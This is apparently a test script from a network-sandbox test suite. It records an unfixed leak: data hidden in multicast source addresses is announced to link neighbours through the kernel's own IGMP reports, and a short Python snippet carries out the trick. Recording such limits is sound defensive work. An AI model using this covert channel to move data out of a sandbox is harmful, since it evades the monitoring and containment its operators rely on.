#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: joins multicast groups and sources whose addresses are the data, so that the kernel's membership reports tell them to the neighbours on the link
# stopped-by: none: the reports are the kernel's own, without a socket, and with a hop limit of 1 no router forwards them
# reason: none: no hook of a cgroup sees them
# kernels: all
#
# A limit, recorded so that nobody takes it for shut: who listens on the same link learns some bytes.
. "$(dirname "$0")/lib.sh"
arena udp/9000

attack_by <<'PYTHON'
from attacker import *
import time

IP_ADD_SOURCE_MEMBERSHIP = 39
number = int(ROUND.removeprefix("run"))
joined = udp(OWN4)
joined.setsockopt(socket.SOL_IP, IP_ADD_SOURCE_MEMBERSHIP, socket.inet_aton(f"239.1.1.{number}")
                  + socket.inet_aton(OWN4) + socket.inet_aton("99.111.112.121"))
time.sleep(1) # the kernel waits a little before it tells
PYTHON
works 'ip4 2 192.0.2.2 224.0.0.22 - .*options'
gate
forget
stopped
passes 'ip4 2 192.0.2.2 224.0.0.22 - .*options'
